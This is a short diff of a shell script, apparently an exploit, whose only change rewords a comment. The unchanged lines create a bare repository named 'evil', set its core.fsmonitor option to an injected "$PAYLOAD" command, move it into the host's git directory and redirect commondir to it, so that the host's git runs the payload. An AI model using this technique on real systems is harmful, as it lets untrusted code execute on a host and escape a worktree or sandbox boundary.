@@ -1,4 +1,4 @@
-# Rewrites what the host's git knows of this worktree: commondir, gitdir, HEAD, index.
+# Rewrites the host's git data on its worktree: commondir, gitdir, HEAD, index.
 mkdir evil && git init -q --bare evil && set_config evil/config core.fsmonitor "$PAYLOAD; false"
 mv evil "$GIT_DIRECTORY/"
 echo "$GIT_DIRECTORY/evil" > "$GIT_DIRECTORY/commondir"
